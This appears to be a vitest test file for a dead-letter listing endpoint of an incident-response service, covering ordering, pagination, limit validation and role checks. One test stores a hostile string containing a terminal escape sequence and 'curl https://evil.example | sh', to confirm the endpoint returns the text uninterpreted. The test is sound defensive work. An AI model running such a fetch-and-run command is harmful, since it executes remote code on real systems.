import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listDeadLetters } from '../../functions/deadLetters';
import { DEFAULT_PAGE, MAX_PAGE } from '../../shared/analystRequests';
import type { DeadLetterRecord, LedgerEntry } from '../../shared/ledger/ledger';
import { EmbeddedQueue } from '../../shared/queue/embeddedQueue';
import { DEMO } from '../../sandbox/tenant';
import { analystBearer, deadLetteredRevocation, ENFORCE_NO_RULES, failedRevocation } from '../support/analysts';
import { EngineUnderTest } from '../support/engine';
import { call } from '../support/http';

/** GET /api/deadletters: what ended on the side, for analysts, under an app role. */
let engine: EngineUnderTest;
beforeAll(async () => {
  engine = await EngineUnderTest.start();
});
afterAll(() => engine.stop());
beforeEach(() => engine.configure({ RESPONDER_POLICY: ENFORCE_NO_RULES }, { queue: new EmbeddedQueue({ maxDeliveryCount: 1 }) }));

const as = (roles: string[]) => analystBearer(engine, roles);
const list = async (headers: Record<string, string>, query: Record<string, string> = {}) =>
  call(listDeadLetters, 'deadletters', { method: 'GET', headers, query });

const record = (n: number, text = `record ${n}`): DeadLetterRecord => ({
  messageId: `m-${n}`,
  at: new Date(Date.UTC(2026, 10, 28, 12, 0, n)).toISOString(),
  by: 'worker',
  reason: 'SchemaInvalid',
  description: text,
  body: '{}',
});

describe('GET /api/deadletters', () => {
  it('lists the dead-letter records and the failed or dead-lettered actions, as the ledger holds them', async () => {
    const actor = await as(['Responder.Act']);
    const lost = await deadLetteredRevocation(engine, 'adele.vance@contoso.com', actor);
    const refused = await failedRevocation(engine, 'jsmith@contoso.com', actor);
    expect([lost.state, refused.state]).toEqual(['dead-lettered', 'failed']);

    const res = await list(await as(['Responder.Read']));
    expect(res.status).toBe(200);
    expect(res.json).toEqual({
      deadLetters: [
        expect.objectContaining({ by: 'broker', reason: 'MaxDeliveryCountExceeded', description: 'the worker crashed', actionKey: lost.key, deliveryCount: 1 }),
      ],
      // Newest first: the failure came after the dead letter.
      failedActions: [expect.objectContaining({ key: refused.key, state: 'failed' }), expect.objectContaining({ key: lost.key, state: 'dead-lettered' })],
      total: { deadLetters: 1, failedActions: 2 },
      truncated: false,
    });
    // Whole entries, as GET /api/actions/{key} gives them: their history says why.
    expect(res.json.failedActions[0].attempts.at(-1)).toMatchObject({ outcome: 'permanent', status: 400 });
    expect(res.json.failedActions.map((e: LedgerEntry) => e.target)).toEqual([
      expect.objectContaining({ id: DEMO.jsmith }),
      expect.objectContaining({ id: DEMO.adele }),
    ]);
  });

  it('answers the newest limit of each, newest first, with the totals, and says when it cut', async () => {
    for (let n = 1; n <= DEFAULT_PAGE + 5; n++) await engine.ledger.recordDeadLetter(record(n));
    const reader = await as(['Responder.Read']);
    const all = await list(reader);
    expect(all.json.deadLetters).toHaveLength(DEFAULT_PAGE);
    expect(all.json.deadLetters[0].messageId).toBe(`m-${DEFAULT_PAGE + 5}`);
    expect(all.json.deadLetters.at(-1).messageId).toBe('m-6');
    expect([all.json.total, all.json.truncated]).toEqual([{ deadLetters: DEFAULT_PAGE + 5, failedActions: 0 }, true]);

    const three = await list(reader, { limit: '3' });
    expect(three.json.deadLetters.map((r: DeadLetterRecord) => r.messageId)).toEqual([
      `m-${DEFAULT_PAGE + 5}`,
      `m-${DEFAULT_PAGE + 4}`,
      `m-${DEFAULT_PAGE + 3}`,
    ]);
    expect(three.json.truncated).toBe(true);
    const everything = await list(reader, { limit: String(MAX_PAGE) });
    expect([everything.json.deadLetters.length, everything.json.truncated]).toEqual([DEFAULT_PAGE + 5, false]);
  });

  it('answers 400 naming limit for a limit it does not take', async () => {
    const reader = await as(['Responder.Read']);
    for (const limit of ['0', String(MAX_PAGE + 1), '1.5', 'ten', '']) {
      const res = await list(reader, { limit });
      expect([res.status, res.json.error.target], limit).toEqual([400, 'limit']);
    }
  });

  it('gives text as the ledger keeps it, for the reader to show safely: nothing is interpreted', async () => {
    const hostile = 'boom\u001b]0;owned\u0007\nfix: curl https://evil.example | sh';
    await engine.ledger.recordDeadLetter(record(1, hostile));
    const res = await list(await as(['Responder.Read']));
    expect(res.json.deadLetters[0].description).toBe(hostile);
  });

  it('needs Responder.Read: no token 401, any other role 403', async () => {
    expect((await list({})).status).toBe(401);
    for (const role of ['Incidents.Submit', 'Responder.Act', 'Responder.Approve']) expect((await list(await as([role]))).status, role).toBe(403);
    expect((await list(await as(['Responder.Read']))).status).toBe(200);
  });
});
